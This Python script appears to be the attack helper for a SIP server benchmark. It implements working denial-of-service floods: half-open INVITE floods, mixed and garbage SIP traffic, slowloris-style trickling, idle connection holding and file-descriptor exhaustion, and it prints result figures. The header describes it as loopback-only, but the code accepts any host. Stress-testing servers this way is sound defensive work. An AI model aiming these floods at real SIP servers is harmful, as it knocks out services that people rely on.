#!/usr/bin/env python3
"""The hostile peers of samples/bench/attack.sh, loopback only and bounded in time.

Each subcommand attacks one SIP server address for a fixed time from a given source address and
prints one line of `key=value` figures for attack.sh to report:

  halfopen HOST PORT SRC RATE SECONDS       INVITEs never ACKed (the sub-limit half-open flood)
  mixed HOST PORT SRC RATE SECONDS          INVITE, OPTIONS, REGISTER, BYE for no call, garbage
  probe HOST PORT SRC                       one OPTIONS: is SRC answered (again)?
  idle HOST PORT SRC COUNT SECONDS          COUNT silent TCP connections held SECONDS
  slowloris HOST PORT SRC COUNT GAP SECONDS COUNT TCP connections, each trickling a message, a byte per GAP s
  fdflood HOST PORT FIRST ADDRS PER SECONDS idle TCP connections from ADDRS addresses from 127.0.0.FIRST, PER each

Nothing here reads or writes outside the process; every socket closes when the run ends.
"""
import random
import resource
import select
import socket
import sys
import time


def invite(i, src, sport, host, port, tag):
    sdp = (f"v=0\r\no=- {i} 1 IN IP4 {src}\r\ns=-\r\nc=IN IP4 {src}\r\nt=0 0\r\n"
           f"m=audio {20000 + 2 * (i % 10000)} RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n")
    return (f"INVITE sip:attack@{host}:{port} SIP/2.0\r\n"
            f"Via: SIP/2.0/UDP {src}:{sport};branch=z9hG4bK{tag}{i}\r\n"
            f"From: <sip:attacker@{src}>;tag={tag}{i}\r\nTo: <sip:attack@{host}>\r\n"
            f"Call-ID: {tag}-{i}@{src}\r\nCSeq: 1 INVITE\r\nContact: <sip:attacker@{src}:{sport}>\r\n"
            f"Max-Forwards: 70\r\nContent-Type: application/sdp\r\nContent-Length: {len(sdp)}\r\n\r\n{sdp}")


def request(method, i, src, sport, host, port, tag):
    return (f"{method} sip:attack@{host}:{port} SIP/2.0\r\n"
            f"Via: SIP/2.0/UDP {src}:{sport};branch=z9hG4bK{tag}{i}\r\n"
            f"From: <sip:attacker@{src}>;tag={tag}{i}\r\nTo: <sip:attack@{host}>\r\n"
            f"Call-ID: {tag}-{i}@{src}\r\nCSeq: 1 {method}\r\nContact: <sip:attacker@{src}:{sport}>\r\n"
            f"Max-Forwards: 70\r\nContent-Length: 0\r\n\r\n")


def udp_socket(src):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    s.setblocking(False)
    return s


def drain(s, seen, start):
    """Reads every datagram waiting; counts each response code once per Call-ID."""
    while True:
        try:
            data = s.recv(65535)
        except BlockingIOError:
            return
        text = data.decode("ascii", "replace")
        first = text.split("\r\n", 1)[0]
        code = first.split(" ")[1] if first.startswith("SIP/2.0 ") else "request"
        call_id = next((l[8:].strip() for l in text.split("\r\n") if l.lower().startswith("call-id:")), "")
        seen.setdefault(code, set()).add(call_id)
        seen["_last"] = time.monotonic() - start
        seen["_datagrams"] = seen.get("_datagrams", 0) + 1


def paced(rate, seconds, send, on_idle):
    """Calls send(i) `rate` times a second for `seconds`, on_idle() between sends."""
    start = time.monotonic()
    i = 0
    while True:
        now = time.monotonic()
        if now - start >= seconds:
            return i
        due = int((now - start) * rate)
        while i < due:
            send(i)
            i += 1
        on_idle()
        time.sleep(0.002)


def flood(kind, host, port, src, rate, seconds):
    s = udp_socket(src)
    sport = s.getsockname()[1]
    tag = f"{kind}{random.randrange(1 << 30):x}"
    seen = {}
    start = time.monotonic()
    mix = ["INVITE", "OPTIONS", "REGISTER", "BYE", "garbage"]

    def send(i):
        what = "INVITE" if kind == "halfopen" else mix[i % len(mix)]
        if what == "INVITE":
            data = invite(i, src, sport, host, port, tag)
        elif what == "garbage":
            data = "\x00\xffnot sip at all " + "x" * (i % 200) + "\r\n\r\n"
        else:
            data = request(what, i, src, sport, host, port, tag)
        try:
            s.sendto(data.encode("latin-1"), (host, port))
        except BlockingIOError:
            pass

    sent = paced(rate, seconds, send, lambda: drain(s, seen, start))
    # Responses already on their way (and the 200 OK retransmissions) for two more seconds.
    end = time.monotonic() + 2
    while time.monotonic() < end:
        drain(s, seen, start)
        time.sleep(0.01)
    codes = " ".join(f"calls_{c}={len(v)}" for c, v in sorted(seen.items()) if not c.startswith("_"))
    print(f"sent={sent} datagrams_back={seen.get('_datagrams', 0)} {codes} "
          f"last_answer_s={seen.get('_last', -1):.1f}")


def probe(host, port, src):
    s = udp_socket(src)
    seen = {}
    start = time.monotonic()
    s.sendto(request("OPTIONS", 0, src, s.getsockname()[1], host, port, "probe").encode(), (host, port))
    while time.monotonic() - start < 2 and not any(k.isdigit() for k in seen):
        drain(s, seen, start)
        time.sleep(0.01)
    answer = next((k for k in seen if k.isdigit()), "none")
    print(f"answered={answer}")


def closed_by_server(c):
    # poll, not select: select cannot take descriptors above 1,023, and the fdlimit round opens more.
    try:
        watch = select.poll()
        watch.register(c, select.POLLIN | select.POLLHUP | select.POLLERR)
        return bool(watch.poll(0)) and c.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b""
    except OSError:
        return True


def connect_many(host, port, sources, per):
    socks, failed = [], 0
    for src in sources:
        for _ in range(per):
            c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            try:
                c.bind((src, 0))
                c.settimeout(2)
                c.connect((host, port))
                socks.append(c)
            except OSError:
                failed += 1
                c.close()
    return socks, failed


def hold(socks, seconds, tick=None, gap=None):
    """Holds the connections `seconds`; returns {socket: seconds until the server closed it}."""
    start = time.monotonic()
    closed = {}
    next_byte = start
    message = b"OPTIONS sip:attack@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/TCP 127.0.0.1;branch=z9hG4bKslow\r\n"
    sent = 0
    while time.monotonic() - start < seconds:
        now = time.monotonic()
        if gap is not None and now >= next_byte:
            for c in socks:
                if c not in closed:
                    try:
                        c.send(message[sent % len(message):sent % len(message) + 1])
                    except OSError:
                        closed[c] = now - start
            sent += 1
            next_byte = now + gap
        for c in socks:
            if c not in closed and closed_by_server(c):
                closed[c] = time.monotonic() - start
        if tick:
            tick()
        time.sleep(0.2)
    return closed


def raise_file_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main(argv):
    cmd, args = argv[1], argv[2:]
    host, port = args[0], int(args[1])
    if cmd in ("halfopen", "mixed"):
        flood(cmd, host, port, args[2], int(args[3]), float(args[4]))
    elif cmd == "probe":
        probe(host, port, args[2])
    elif cmd in ("idle", "slowloris"):
        raise_file_limit()
        count = int(args[3])
        socks, failed = connect_many(host, port, [args[2]], count)
        if cmd == "idle":
            closed = hold(socks, float(args[4]))
        else:
            closed = hold(socks, float(args[5]), gap=float(args[4]))
        times = sorted(closed.values())
        print(f"connected={len(socks)} connect_failed={failed} closed_by_server={len(closed)} "
              f"open_at_end={len(socks) - len(closed)} "
              f"first_close_s={times[0] if times else -1:.1f} last_close_s={times[-1] if times else -1:.1f}")
        for c in socks:
            c.close()
    elif cmd == "fdflood":
        raise_file_limit()
        first, addrs, per = int(args[2]), int(args[3]), int(args[4])
        socks, failed = connect_many(host, port, [f"127.0.0.{a}" for a in range(first, first + addrs)], per)
        closed = hold(socks, float(args[5]))
        print(f"attempted={addrs * per} connected={len(socks)} connect_failed={failed} "
              f"closed_by_server={len(closed)} open_at_end={len(socks) - len(closed)}")
        for c in socks:
            c.close()
    else:
        sys.exit(f"unknown attack {cmd}")


if __name__ == "__main__":
    main(sys.argv)
